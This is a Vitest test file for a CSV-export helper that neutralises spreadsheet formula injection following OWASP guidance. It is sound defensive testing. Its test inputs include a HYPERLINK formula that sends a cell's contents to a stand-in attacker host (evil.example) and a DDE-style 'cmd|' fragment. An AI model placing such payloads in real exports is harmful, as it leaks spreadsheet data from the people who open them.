import { describe, expect, it } from 'vitest'
import { csvRow, neutraliseCell, toCsv } from './csvSafe.ts'
import { parse } from 'csv-parse/sync'

describe('neutraliseCell (OWASP CSV injection)', () => {
  it('prefixes cells that start with = + - @ tab or CR', () => {
    expect(neutraliseCell('=HYPERLINK("http://evil.example/?"&A1,"Click")')).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Click")`)
    expect(neutraliseCell('+1+2')).toBe("'+1+2")
    expect(neutraliseCell('-2+3')).toBe("'-2+3")
    expect(neutraliseCell('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)")
    expect(neutraliseCell('\t=1')).toBe("'\t=1")
    expect(neutraliseCell('\r=1')).toBe("'\r=1")
  })
  it('leaves other cells alone', () => {
    expect(neutraliseCell('Renée')).toBe('Renée')
    expect(neutraliseCell('a=b')).toBe('a=b')
    expect(neutraliseCell('')).toBe('')
    expect(neutraliseCell(' =1')).toBe(' =1')
  })
  it('keeps plain numbers only when asked', () => {
    expect(neutraliseCell('-5')).toBe("'-5")
    expect(neutraliseCell('-5', { preserveNumbers: true })).toBe('-5')
    expect(neutraliseCell('+441234567890', { preserveNumbers: true })).toBe('+441234567890')
    expect(neutraliseCell('-5+cmd|x', { preserveNumbers: true })).toBe("'-5+cmd|x")
  })
})

describe('csvRow / toCsv', () => {
  it('quotes every field, doubles quotes, and keeps line breaks inside the field', () => {
    expect(csvRow(['a', 'b"c', 'line1\nline2', 3, null])).toBe('"a","b""c","line1\nline2","3",""\r\n')
  })
  it('writes an export that reads back with the formula neutralised', async () => {
    const lines: string[] = []
    for await (const l of toCsv(['name', 'note'], [{ name: '=HYPERLINK("http://x","y")', note: '£5, é' }, ['@cmd', '-1']])) lines.push(l)
    const text = lines.join('')
    expect(text.startsWith('\uFEFF')).toBe(true)
    const rows = parse(text, { bom: true }) as string[][]
    expect(rows).toEqual([
      ['name', 'note'],
      [`'=HYPERLINK("http://x","y")`, '£5, é'],
      ["'@cmd", "'-1"],
    ])
  })
})
